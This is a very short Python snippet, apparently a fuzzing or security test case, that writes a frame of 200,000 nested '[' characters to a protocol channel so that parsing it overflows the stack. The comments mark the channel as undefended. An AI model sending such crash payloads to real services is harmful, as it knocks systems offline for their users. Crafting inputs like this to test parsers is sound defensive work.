# ruff: noqa
# idea: a header nested so deep that parsing it overflows the stack
# undefended: channel
# sandbox: ended protocol
os.write(CHANNEL, frame(b"[" * 200_000))
